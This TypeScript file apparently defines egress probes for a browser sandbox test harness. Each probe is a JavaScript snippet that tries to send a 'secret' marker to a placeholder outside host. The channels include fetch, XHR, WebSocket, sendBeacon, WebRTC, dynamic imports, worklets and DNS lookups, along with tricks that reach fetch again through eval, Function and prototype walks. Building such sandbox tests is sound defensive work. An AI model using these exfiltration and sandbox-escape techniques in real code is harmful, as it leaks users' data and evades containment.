import type { Probe } from "../probe.ts";

type Given = Omit<Probe, "family" | "attack" | "name">;

function egress(name: string, attack: string, given: Partial<Given> = {}): Probe {
  return { family: "egress", control: "worker", ...given, name, attack };
}

const HTTP3 = "the outside has no HTTP/3 server, and this browser sends nothing to a UDP port that does not answer it";

const NO_WEB_RTC = "WebKitGTK is built without WebRTC";

/** Requests that code makes by calling something. */
export const egressRequests: Probe[] = [
  egress("fetch", "async () => (await fetch('__OUT__/fetch?secret')).status"),
  egress(
    "fetch, no-cors",
    "async () => { await fetch('__OUT__/fetch', { mode: 'no-cors', method: 'POST', body: 'secret' }); }",
  ),
  egress(
    "fetch, keepalive",
    "async () => { await fetch('__OUT__/keepalive', { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' }); }",
    { control: "frame" },
  ),
  egress("fetchLater", "async () => { fetchLater('__OUT__/later', { activateAfter: 0 }); }", {
    control: "frame",
    unprovable: {
      firefox: "Firefox has no fetchLater",
      webkit: "WebKit has no fetchLater",
    },
  }),
  egress(
    "fetch of a Request object",
    "async () => { await fetch(new Request('__OUT__/request', { mode: 'no-cors' })); }",
  ),
  egress(
    "fetch found again through Function",
    "async () => { await Function('return this')().fetch('__OUT__/function', { mode: 'no-cors' }); }",
  ),
  egress(
    "fetch found again through indirect eval",
    "async () => { await (0, eval)('fetch')('__OUT__/eval', { mode: 'no-cors' }); }",
  ),
  egress(
    "fetch found again through the constructor of async functions",
    'async () => { await (async () => {}).constructor(\'return fetch("__OUT__/async", { mode: "no-cors" })\')(); }',
  ),
  egress(
    "fetch found again through the constructor of generators",
    'async () => { await (function* () {}).constructor(\'yield fetch("__OUT__/generator", { mode: "no-cors" })\')().next().value; }',
  ),
  egress(
    "fetch found again through the constructor of async generators",
    'async () => { await (async function* () {}).constructor(\'yield fetch("__OUT__/asyncgen", { mode: "no-cors" })\')().next(); }',
  ),
  egress(
    "fetch found again along the prototypes of the global object",
    `async () => {
    for (let at = globalThis; at !== null; at = Object.getPrototypeOf(at)) {
      const own = Object.getOwnPropertyDescriptor(at, "fetch");
      if (own) return void (await own.value.call(globalThis, "__OUT__/prototype", { mode: "no-cors" }));
    }
  }`,
  ),
  egress(
    "fetch found again through an event's target",
    `async () => {
    const target = await new Promise((resolve, reject) => {
      EventTarget.prototype.addEventListener.call(globalThis, "error", (event) => resolve(event.currentTarget));
      setTimeout(() => { throw new Error("look at me"); });
      setTimeout(() => reject(new Error("no event")), 200);
    });
    await target.fetch("__OUT__/target", { mode: "no-cors" });
  }`,
  ),
  egress(
    "fetch in a timer's text",
    'async () => { setTimeout(\'fetch("__OUT__/timer", { mode: "no-cors" })\'); await new Promise((f) => setTimeout(f, 50)); }',
  ),
  egress(
    "XMLHttpRequest",
    "async () => { const x = new XMLHttpRequest(); x.open('POST', '__OUT__/xhr'); x.send('secret'); await new Promise((f) => setTimeout(f, 100)); }",
  ),
  egress(
    "XMLHttpRequest, synchronous",
    "async () => { const x = new XMLHttpRequest(); x.open('GET', '__OUT__/xhr', false); x.send(); }",
  ),
  egress(
    "WebSocket",
    "async () => { const w = new WebSocket('__WS__/ws?secret'); await new Promise((f) => { w.onopen = w.onerror = f; }); }",
  ),
  egress("WebSocketStream", "async () => { await new WebSocketStream('__WS__/wss').opened; }", {
    unprovable: { firefox: "Firefox has no WebSocketStream", webkit: "WebKit has no WebSocketStream" },
  }),
  egress(
    "EventSource",
    "async () => { const e = new EventSource('__OUT__/sse.events'); await new Promise((f) => { e.onopen = e.onerror = f; }); }",
  ),
  egress("sendBeacon", "async () => navigator.sendBeacon('__OUT__/beacon', 'secret')", { control: "frame" }),
  egress(
    "WebTransport",
    `async () => {
    const t = new WebTransport("https://127.0.0.1:__UDP__/secret");
    await Promise.race([t.ready, new Promise((f) => setTimeout(f, 600))]);
  }`,
    { ports: true, unprovable: { webkit: HTTP3 } },
  ),
  egress("WebRTC by STUN", webRtc("stun:127.0.0.1:__UDP__"), {
    control: "frame",
    ports: true,
    timeout: 2500,
    unprovable: { webkit: NO_WEB_RTC },
  }),
  egress(
    "WebRTC by TURN over TCP",
    webRtc("turn:127.0.0.1:__TCP__?transport=tcp", "username: 'secret', credential: 'x',"),
    { control: "frame", ports: true, timeout: 2500, unprovable: { webkit: NO_WEB_RTC } },
  ),
  egress("import() of a module", "async () => { await import('__OUT__/module.js'); }", { control: "frame" }),
  egress("import() of a module, from a Worker", "async () => { await import('__OUT__/module.js'); }"),
  egress("import() of JSON", "async () => { await import('__OUT__/data.json', { with: { type: 'json' } }); }", {
    control: "frame",
  }),
  egress("import() of a style sheet", "async () => { await import('__OUT__/style.css', { with: { type: 'css' } }); }", {
    control: "frame",
    unprovable: { webkit: "WebKit does not import style sheets" },
  }),
  egress(
    "import() within a data: module",
    "async () => { await import('data:text/javascript,import \"__OUT__/nested.js\"'); }",
    { control: "frame" },
  ),
  egress("import() within Function", "async () => { await Function('return import(\"__OUT__/function.js\")')(); }", {
    control: "frame",
  }),
  egress("import() within eval", "async () => { await (0, eval)('import(\"__OUT__/eval.js\")'); }", {
    control: "frame",
  }),
  egress("importScripts", "async () => { importScripts('__OUT__/script.js'); }"),
  egress(
    "importScripts of a data: script",
    'async () => { importScripts(\'data:text/javascript,fetch("__OUT__/data", { mode: "no-cors" })\'); }',
  ),
  egress("FontFace", "async () => { await new FontFace('f', 'url(__OUT__/font.woff)').load().catch(() => {}); }", {
    unprovable: { webkit: "WebKit's Workers load no fonts from other origins" },
  }),
  egress("WebAssembly streaming", "async () => { await WebAssembly.compileStreaming(fetch('__OUT__/module.wasm')); }"),
  egress("Cache.add", "async () => { await (await caches.open('__TOKEN__')).add('__OUT__/cached'); }"),
  egress(
    "FedCM",
    "async () => { await navigator.credentials.get({ identity: { providers: [{ configURL: '__OUT__/fedcm.json', clientId: 'x' }] } }); }",
    {
      control: "frame",
      unprovable: {
        firefox: "Firefox has no FedCM",
        webkit: "WebKit has no FedCM",
      },
    },
  ),
  egress(
    "audio worklet",
    "async () => { await new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule('__OUT__/worklet.js').catch(() => {}); }",
    { control: "frame" },
  ),
  egress("paint worklet", "async () => { await CSS.paintWorklet.addModule('__OUT__/paint.js').catch(() => {}); }", {
    control: "frame",
    unprovable: { firefox: "Firefox has no paint worklets", webkit: "WebKit has no paint worklets" },
  }),
  egress("source map of evaluated code", "async () => { (0, eval)('1\\n//# sourceMappingURL=__OUT__/map.json'); }", {
    control: "page",
    unprovable: { chromium: OPEN_TOOLS(), firefox: OPEN_TOOLS(), webkit: OPEN_TOOLS() },
  }),
  egress("a name looked up by a request that fails", "async () => { await fetch('http://__LOOKUP__/'); }", {
    profile: "ordinary",
    unprovable: { webkit: NO_LOOKUPS() },
  }),
];

function webRtc(url: string, rest = ""): string {
  return `async () => {
    const c = new RTCPeerConnection({ iceServers: [{ ${rest} urls: "${url}" }] });
    c.createDataChannel("secret");
    await c.setLocalDescription(await c.createOffer());
    await new Promise((f) => setTimeout(f, 1500));
    c.close();
  }`;
}

function OPEN_TOOLS(): string {
  return "only a browser with its developer tools open loads source maps";
}

function NO_LOOKUPS(): string {
  return "this browser does not say which names it looks up";
}
